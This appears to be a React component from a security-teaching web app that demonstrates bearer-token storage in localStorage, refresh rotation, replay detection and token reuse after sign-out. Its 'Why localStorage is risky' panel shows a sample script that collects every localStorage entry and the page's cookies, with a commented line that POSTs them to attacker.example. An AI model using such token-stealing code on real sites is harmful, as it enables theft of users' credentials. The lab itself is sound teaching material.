"use client";

import { useCallback, useEffect, useMemo, useState, useSyncExternalStore } from "react";
import { Field, FormMessage, SubmitButton, type FormState } from "@/components/form";
import { Countdown } from "../countdown";
import { formatUtc } from "../format";

/**
 * The bearer flow as a browser app would do it: tokens in localStorage, `Authorization: Bearer` on each call,
 * refresh on demand (one at a time, across tabs, via the Web Locks API), sign-out that revokes the refresh
 * family. Everything shown as "decoded" comes from the server's verification (GET /api/bearer/me), never from
 * decoding the token in the browser without checking it.
 */

const ACCESS_KEY = "svt.bearer.accessToken";
const REFRESH_KEY = "svt.bearer.refreshToken";

type Tokens = { accessToken: string; refreshToken: string };
type Verified = {
  /** When the server accepted it (browser clock), the countdown's starting point. */
  checkedAt: number;
  user: { id: string; name: string; email: string };
  token: { header: Record<string, unknown>; claims: Record<string, unknown> & { exp: number }; signature: string };
};
type Call = { label: string; status: number | null; body: unknown };
type LogEvent = { id: string; type: string; detail: string | null; createdAt: string };
type ServerState = { familyId: string; tokens: Row[]; events: LogEvent[] };
type Row = {
  id: string;
  familyId: string;
  hashPrefix: string;
  createdAt: string;
  expiresAt: string;
  usedAt: string | null;
  revokedAt: string | null;
  expired: boolean;
};

function loadTokens(): Tokens | null {
  const accessToken = localStorage.getItem(ACCESS_KEY);
  const refreshToken = localStorage.getItem(REFRESH_KEY);
  return accessToken && refreshToken ? { accessToken, refreshToken } : null;
}

// localStorage as an external store: this tab's writes and other tabs' "storage" events both re-render.
const listeners = new Set<() => void>();

function saveTokens(tokens: Tokens | null) {
  if (tokens) {
    localStorage.setItem(ACCESS_KEY, tokens.accessToken);
    localStorage.setItem(REFRESH_KEY, tokens.refreshToken);
  } else {
    localStorage.removeItem(ACCESS_KEY);
    localStorage.removeItem(REFRESH_KEY);
  }
  listeners.forEach((listener) => listener());
}

function subscribe(listener: () => void) {
  listeners.add(listener);
  window.addEventListener("storage", listener);
  return () => {
    listeners.delete(listener);
    window.removeEventListener("storage", listener);
  };
}

/** A string snapshot (stable between changes, as useSyncExternalStore needs); undefined on the server. */
const snapshot = () => {
  const tokens = loadTokens();
  return tokens ? `${tokens.accessToken} ${tokens.refreshToken}` : "";
};

async function send(url: string, init: RequestInit = {}): Promise<{ status: number | null; body: unknown }> {
  try {
    const response = await fetch(url, { cache: "no-store", ...init });
    return { status: response.status, body: await response.json().catch(() => null) };
  } catch {
    return { status: null, body: { error: "The server could not be reached." } };
  }
}

const postJson = (url: string, body: unknown) =>
  send(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

const errorOf = (body: unknown) => (body as { error?: string } | null)?.error ?? "Something went wrong.";

/** One refresh at a time across this browser's tabs, so two tabs never spend the same refresh token. */
async function serialised<T>(work: () => Promise<T>): Promise<T> {
  if (typeof navigator !== "undefined" && navigator.locks) return navigator.locks.request("svt-bearer-refresh", work);
  return work();
}

/** The "third-party script": what any script running on this origin can do. Shown verbatim on the page. */
function thirdPartyScript() {
  const stolen: Record<string, string | null> = {};
  for (let i = 0; i < localStorage.length; i++) {
    const key = localStorage.key(i)!;
    stolen[key] = localStorage.getItem(key);
  }
  return { localStorage: stolen, "document.cookie": document.cookie };
}
const THIRD_PARTY_SOURCE = `// an analytics tag, a compromised npm package, an XSS payload…
const stolen = {};
for (let i = 0; i < localStorage.length; i++) {
  const key = localStorage.key(i);
  stolen[key] = localStorage.getItem(key);
}
// fetch("https://attacker.example/collect", { method: "POST", body: JSON.stringify(stolen) });
({ localStorage: stolen, "document.cookie": document.cookie });`;

export function BearerLab() {
  const stored = useSyncExternalStore(subscribe, snapshot, () => undefined);
  const tokens = useMemo<Tokens | null>(() => {
    if (!stored) return null;
    const [accessToken, refreshToken] = stored.split(" ");
    return { accessToken: accessToken!, refreshToken: refreshToken! };
  }, [stored]);
  const [verified, setVerified] = useState<Verified | null>(null);
  const [calls, setCalls] = useState<Call[]>([]);
  const [rows, setRows] = useState<ServerState | null>(null);
  const [formState, setFormState] = useState<FormState>({});
  const [notice, setNotice] = useState<{ kind: "error" | "info"; text: string } | null>(null);
  const [spent, setSpent] = useState<string | null>(null);
  const [afterSignOut, setAfterSignOut] = useState<string | null>(null);
  const [stolen, setStolen] = useState<unknown>(null);
  const [busy, setBusy] = useState(false);

  const record = useCallback((label: string, status: number | null, body: unknown) => {
    setCalls((previous) => [{ label, status, body }, ...previous].slice(0, 6));
  }, []);

  const callMe = useCallback(
    async (accessToken: string, label = "GET /api/bearer/me") => {
      const result = await send("/api/bearer/me", { headers: { authorization: `Bearer ${accessToken}` } });
      record(label, result.status, result.body);
      return result;
    },
    [record],
  );

  const loadRows = useCallback(async (accessToken: string) => {
    const result = await send("/api/bearer/tokens", { headers: { authorization: `Bearer ${accessToken}` } });
    if (result.status === 200) setRows(result.body as ServerState);
  }, []);

  const showIdentity = useCallback(
    async (accessToken: string) => {
      const result = await callMe(accessToken);
      if (result.status === 200) {
        setVerified({ ...(result.body as Verified), checkedAt: Math.floor(Date.now() / 1000) });
        await loadRows(accessToken);
      } else setVerified(null);
      return result.status;
    },
    [callMe, loadRows],
  );

  const refresh = useCallback(async () => {
    setNotice(null);
    await serialised(async () => {
      // Another tab may have rotated the tokens while this one waited: use what is stored now.
      const current = loadTokens();
      if (!current) {
        saveTokens(null);
        setVerified(null);
        return;
      }
      const result = await postJson("/api/bearer/refresh", { refreshToken: current.refreshToken });
      record("POST /api/bearer/refresh", result.status, redact(result.body));
      if (result.status === 200) {
        const body = result.body as Tokens;
        setSpent(current.refreshToken);
        saveTokens({ accessToken: body.accessToken, refreshToken: body.refreshToken });
        await showIdentity(body.accessToken);
      } else {
        saveTokens(null);
        setVerified(null);
        setNotice({ kind: "error", text: errorOf(result.body) });
      }
    });
  }, [record, showIdentity]);

  useEffect(() => {
    // Like a real client on start-up: try the stored access token, and refresh once if it has expired.
    const start = async () => {
      const initial = loadTokens();
      if (initial && (await showIdentity(initial.accessToken)) === 401) await refresh();
    };
    void start();
    // Runs once on mount: the callbacks are stable.
    // eslint-disable-next-line react-hooks/exhaustive-deps
  }, []);

  async function signIn(form: FormData) {
    setNotice(null);
    setAfterSignOut(null);
    const values = { email: String(form.get("email") ?? "") };
    const result = await postJson("/api/bearer/login", { email: form.get("email"), password: form.get("password") });
    record("POST /api/bearer/login", result.status, redact(result.body));
    if (result.status !== 200) {
      const body = result.body as { error?: string; fields?: Record<string, string> } | null;
      setFormState({ error: body?.error ?? "Signing in did not work.", fields: body?.fields, values });
      return;
    }
    setFormState({});
    const body = result.body as Tokens;
    saveTokens({ accessToken: body.accessToken, refreshToken: body.refreshToken });
    setSpent(null);
    await showIdentity(body.accessToken);
  }

  async function run(work: () => Promise<void>) {
    setBusy(true);
    try {
      await work();
    } finally {
      setBusy(false);
    }
  }

  const replay = () =>
    run(async () => {
      if (!spent) return;
      const result = await postJson("/api/bearer/refresh", { refreshToken: spent });
      record("POST /api/bearer/refresh (replayed, spent token)", result.status, result.body);
      setNotice({
        kind: "error",
        text:
          result.status === 401
            ? `Refused: ${errorOf(result.body)} Your current refresh token is dead too — try “Refresh tokens”.`
            : `Unexpected answer ${result.status}.`,
      });
      const current = loadTokens();
      if (current) await loadRows(current.accessToken);
    });

  const signOut = () =>
    run(async () => {
      const current = loadTokens();
      if (!current) return;
      const result = await postJson("/api/bearer/logout", { refreshToken: current.refreshToken });
      record("POST /api/bearer/logout", result.status, result.body);
      saveTokens(null);
      setVerified(null);
      setRows(null);
      setSpent(null);
      setAfterSignOut(current.accessToken);
      setNotice({
        kind: "info",
        text: "Signed out: both tokens are gone from localStorage and the refresh family is revoked.",
      });
    });

  if (stored === undefined) return <p className="text-sm text-slate-500">Reading localStorage…</p>;

  return (
    <div className="space-y-6">
      {notice && (
        <div
          role={notice.kind === "error" ? "alert" : "status"}
          data-testid="bearer-notice"
          className={`rounded-lg border px-4 py-3 text-sm ${notice.kind === "error" ? "border-red-200 bg-red-50 text-red-800" : "border-emerald-200 bg-emerald-50 text-emerald-800"}`}
        >
          {notice.text}
        </div>
      )}

      {!tokens ? (
        <div className="grid gap-6 lg:grid-cols-2">
          <section aria-labelledby="bearer-signin" className="card min-w-0 border-t-4 border-t-token-500">
            <h2 id="bearer-signin" className="text-lg font-semibold">
              Sign in through the API
            </h2>
            <p className="mt-1 text-sm text-slate-600">
              <code>POST /api/bearer/login</code> with JSON; the answer&apos;s tokens go straight into localStorage.
            </p>
            <form action={signIn} className="mt-4 space-y-4" noValidate>
              <FormMessage state={formState} />
              <Field name="email" label="Email" type="email" autoComplete="email" state={formState} />
              <Field
                name="password"
                label="Password"
                type="password"
                autoComplete="current-password"
                state={formState}
              />
              <SubmitButton className="btn-token w-full" pendingText="Signing in…">
                Get tokens
              </SubmitButton>
            </form>
          </section>
          {afterSignOut ? (
            <AfterSignOut accessToken={afterSignOut} callMe={callMe} />
          ) : (
            <ThirdPartyScript stolen={stolen} onRun={() => setStolen(thirdPartyScript())} />
          )}
        </div>
      ) : (
        <>
          <section aria-labelledby="bearer-identity" className="card border-t-4 border-t-token-500">
            <div className="flex flex-col gap-4 sm:flex-row sm:items-start sm:justify-between">
              <div>
                <h2 id="bearer-identity" className="text-lg font-semibold">
                  {verified ? (
                    <>
                      Signed in as <span data-testid="bearer-user">{verified.user.name}</span>
                    </>
                  ) : (
                    "Tokens in localStorage"
                  )}
                </h2>
                <p className="mt-1 text-sm text-slate-600">
                  {verified
                    ? `${verified.user.email} — from the verified token alone; the API made no database query.`
                    : "The access token was not accepted. Refresh it, or sign in again."}
                </p>
              </div>
              <div className="flex flex-wrap gap-2">
                <button
                  type="button"
                  className="btn-secondary"
                  disabled={busy}
                  onClick={() => run(async () => void (await showIdentity(tokens.accessToken)))}
                >
                  Call /api/bearer/me
                </button>
                <button type="button" className="btn-token" disabled={busy} onClick={() => run(refresh)}>
                  Refresh tokens
                </button>
                <button type="button" className="btn-secondary" disabled={busy} onClick={signOut}>
                  Sign out
                </button>
              </div>
            </div>
          </section>

          <div className="grid items-start gap-6 lg:grid-cols-2">
            <BrowserStores tokens={tokens} verified={verified} />
            <ServerStores rows={rows} spent={spent} busy={busy} onReplay={replay} />
          </div>
          <ThirdPartyScript stolen={stolen} onRun={() => setStolen(thirdPartyScript())} />
        </>
      )}

      <section aria-labelledby="bearer-calls" className="card">
        <h2 id="bearer-calls" className="text-lg font-semibold">
          Requests from this page
        </h2>
        {calls.length === 0 ? (
          <p className="mt-2 text-sm text-slate-500">None yet.</p>
        ) : (
          <ol className="mt-3 space-y-3" data-testid="bearer-calls">
            {calls.map((call, i) => (
              <li key={`${calls.length - i}`} className="text-sm">
                <p className="flex flex-wrap items-center gap-2">
                  <span
                    data-testid={i === 0 ? "last-status" : undefined}
                    className={`badge ${call.status && call.status < 300 ? "bg-emerald-100 text-emerald-900" : "bg-red-100 text-red-900"}`}
                  >
                    {call.status ?? "network error"}
                  </span>
                  <span className="font-mono text-xs">{call.label}</span>
                </p>
                <pre className="code mt-1 max-h-40">{JSON.stringify(call.body, null, 2)}</pre>
              </li>
            ))}
          </ol>
        )}
      </section>
    </div>
  );
}

/** Token pairs are logged without the tokens themselves (they are shown in their own panels). */
function redact(body: unknown) {
  if (!body || typeof body !== "object" || !("accessToken" in body)) return body;
  const { accessToken, refreshToken, ...rest } = body as Tokens & Record<string, unknown>;
  return { accessToken: `${accessToken.slice(0, 16)}…`, refreshToken: `${refreshToken.slice(0, 12)}…`, ...rest };
}

function BrowserStores({ tokens, verified }: { tokens: Tokens; verified: Verified | null }) {
  const [header, payload, signature] = tokens.accessToken.split(".");
  return (
    <section aria-labelledby="bearer-browser" className="card min-w-0 space-y-4 border-t-4 border-t-token-500">
      <h2 id="bearer-browser" className="text-lg font-semibold">
        What the browser stores
      </h2>
      <div>
        <h3 className="text-sm font-semibold">
          <code>localStorage[&quot;{ACCESS_KEY}&quot;]</code> — the access token (JWS)
        </h3>
        <p className="code mt-2" data-testid="access-token">
          <span className="text-rose-300">{header}</span>.<span className="text-violet-300">{payload}</span>.
          <span className="text-sky-300">{signature}</span>
        </p>
        <p className="mt-1 text-xs text-slate-500">
          {tokens.accessToken.length} bytes, sent as <code>Authorization: Bearer …</code>. Header, payload and signature
          are only base64url: anyone holding it can read the claims — the signature stops changes, not reading.
        </p>
      </div>
      {verified ? (
        <div className="space-y-3">
          <div>
            <h3 className="text-sm font-semibold">Header (verified by the server)</h3>
            <pre className="code" data-testid="access-header">
              {JSON.stringify(verified.token.header, null, 2)}
            </pre>
          </div>
          <div>
            <h3 className="text-sm font-semibold">Payload (verified by the server)</h3>
            <pre className="code" data-testid="access-claims">
              {JSON.stringify(verified.token.claims, null, 2)}
            </pre>
          </div>
          <div>
            <h3 className="text-sm font-semibold">Signature</h3>
            <p className="code" data-testid="access-signature">
              HMAC-SHA-256(base64url(header) + &quot;.&quot; + base64url(payload), key) = {verified.token.signature}
            </p>
            <p className="mt-1 text-xs text-slate-500">
              The key is derived from AUTH_SECRET with HKDF; only HS256 is accepted, and <code>iss</code>,{" "}
              <code>aud</code>, <code>exp</code>, <code>iat</code>, <code>jti</code>, <code>sub</code> must all be
              present and right.
            </p>
          </div>
          <p className="text-sm">
            Access token expires{" "}
            <Countdown
              until={verified.token.claims.exp}
              serverNow={verified.checkedAt}
              expiredText="expired — refresh it"
              testId="access-countdown"
            />
            {" · "}
            <span className="text-slate-500">issued {formatUtc(Number(verified.token.claims.iat))}</span>
          </p>
        </div>
      ) : (
        <p className="text-sm text-slate-500">
          The server did not accept this access token, so there is nothing verified to show.
        </p>
      )}
      <div>
        <h3 className="text-sm font-semibold">
          <code>localStorage[&quot;{REFRESH_KEY}&quot;]</code> — the refresh token
        </h3>
        <p className="code mt-2" data-testid="refresh-token">
          {tokens.refreshToken}
        </p>
        <p className="mt-1 text-xs text-slate-500">
          Opaque random bytes, not a JWT: it means something only to our database, and it can never pass as an access
          token.
        </p>
      </div>
    </section>
  );
}

function ServerStores({
  rows,
  spent,
  busy,
  onReplay,
}: {
  rows: ServerState | null;
  spent: string | null;
  busy: boolean;
  onReplay: () => void;
}) {
  return (
    <section aria-labelledby="bearer-server" className="card min-w-0 space-y-4 border-t-4 border-t-slate-400">
      <h2 id="bearer-server" className="text-lg font-semibold">
        What the server stores
      </h2>
      <p className="text-sm text-slate-600">
        For the access token: nothing — it is checked by its signature alone. For the refresh token: one row per token,
        holding its SHA-256, never the token. Each refresh spends the current row and adds its successor to the same{" "}
        <em>family</em>.
      </p>
      {rows ? (
        <div className="overflow-x-auto">
          <table className="w-full text-left text-xs" data-testid="refresh-rows">
            <thead className="text-slate-500">
              <tr>
                <th scope="col" className="py-1 pr-2 font-medium">
                  SHA-256 (start)
                </th>
                <th scope="col" className="hidden py-1 pr-2 font-medium sm:table-cell">
                  Created
                </th>
                <th scope="col" className="py-1 font-medium">
                  State
                </th>
              </tr>
            </thead>
            <tbody>
              {rows.tokens.map((r) => (
                <tr
                  key={r.id}
                  className={`border-t border-slate-100 ${r.familyId === rows.familyId ? "" : "text-slate-400"}`}
                >
                  <td className="py-1 pr-2 font-mono">{r.hashPrefix}…</td>
                  <td className="hidden py-1 pr-2 whitespace-nowrap sm:table-cell">
                    {formatUtc(Date.parse(r.createdAt) / 1000)}
                  </td>
                  <td className="py-1" data-testid="refresh-row-state">
                    {r.revokedAt ? (
                      <span className="badge bg-red-100 text-red-900">revoked</span>
                    ) : r.usedAt ? (
                      <span className="badge bg-slate-100 text-slate-700">spent</span>
                    ) : r.expired ? (
                      <span className="badge bg-slate-100 text-slate-700">expired</span>
                    ) : (
                      <span className="badge bg-emerald-100 text-emerald-900">live</span>
                    )}
                    {r.familyId !== rows.familyId && <span className="ml-1">(another sign-in)</span>}
                  </td>
                </tr>
              ))}
            </tbody>
          </table>
        </div>
      ) : (
        <p className="text-sm text-slate-500">Shown once the access token is accepted.</p>
      )}
      {rows && rows.events.length > 0 && (
        <div>
          <h3 className="text-sm font-semibold">Lifecycle log</h3>
          <ol className="mt-2 divide-y divide-slate-100 text-xs" data-testid="bearer-events">
            {rows.events.map((e) => (
              <li key={e.id} className="flex flex-col gap-1 py-1.5 sm:flex-row sm:gap-3">
                <span className="shrink-0 font-mono text-slate-500">{formatUtc(Date.parse(e.createdAt) / 1000)}</span>
                <span className="badge shrink-0 self-start bg-token-100 text-token-900">{e.type}</span>
                <span className="text-slate-700">{e.detail}</span>
              </li>
            ))}
          </ol>
        </div>
      )}
      <div className="space-y-2 rounded-lg border border-slate-200 p-4 text-sm">
        <p className="font-semibold">Lab: a stolen refresh token</p>
        <p className="text-slate-600">
          After a refresh, the old refresh token is spent. If it is ever presented again, two parties hold it — the
          server cannot tell which is you, so it revokes the whole family.
        </p>
        <button type="button" className="btn-danger" disabled={!spent || busy} onClick={onReplay}>
          Replay the old refresh token
        </button>
        {!spent && <p className="text-xs text-slate-500">Refresh once first: then there is a spent token to replay.</p>}
      </div>
    </section>
  );
}

function ThirdPartyScript({ stolen, onRun }: { stolen: unknown; onRun: () => void }) {
  return (
    <section aria-labelledby="bearer-xss" className="card min-w-0 space-y-3 border-t-4 border-t-red-500">
      <h2 id="bearer-xss" className="text-lg font-semibold">
        Why localStorage is risky
      </h2>
      <p className="text-sm text-slate-600">
        Every script that runs on this origin shares this page&apos;s localStorage. Here is what one would run:
      </p>
      <pre className="code">{THIRD_PARTY_SOURCE}</pre>
      <button type="button" className="btn-danger" onClick={onRun}>
        Run a third-party script
      </button>
      {stolen !== null && (
        <div>
          <p className="text-sm font-semibold" role="status">
            What it got:
          </p>
          <pre className="code" data-testid="xss-output">
            {JSON.stringify(stolen, null, 2)}
          </pre>
          <p className="mt-1 text-xs text-slate-500">
            Both tokens, ready to use from anywhere. The next-auth session cookie is not in <code>document.cookie</code>
            : it is HttpOnly. This site&apos;s Content-Security-Policy makes injecting a script hard — but one bug or
            one bad dependency is enough.
          </p>
        </div>
      )}
    </section>
  );
}

function AfterSignOut({
  accessToken,
  callMe,
}: {
  accessToken: string;
  callMe: (token: string, label?: string) => Promise<{ status: number | null; body: unknown }>;
}) {
  const [status, setStatus] = useState<number | null>(null);
  return (
    <section aria-labelledby="bearer-after" className="card min-w-0 space-y-3 border-t-4 border-t-red-500">
      <h2 id="bearer-after" className="text-lg font-semibold">
        Lab: the access token after sign-out
      </h2>
      <p className="text-sm text-slate-600">
        Sign-out revoked the refresh family, but the access token is checked by its signature alone. A copy taken before
        sign-out still works until it expires.
      </p>
      <button
        type="button"
        className="btn-danger"
        onClick={async () =>
          setStatus((await callMe(accessToken, "GET /api/bearer/me (token from before sign-out)")).status)
        }
      >
        Call /api/bearer/me with the old access token
      </button>
      {status !== null && (
        <p role="status" className="text-sm" data-testid="after-signout-status">
          {status === 200
            ? "200 OK — still accepted. Short lifetimes are the only limit."
            : `${status} — refused (it has expired).`}
        </p>
      )}
    </section>
  );
}
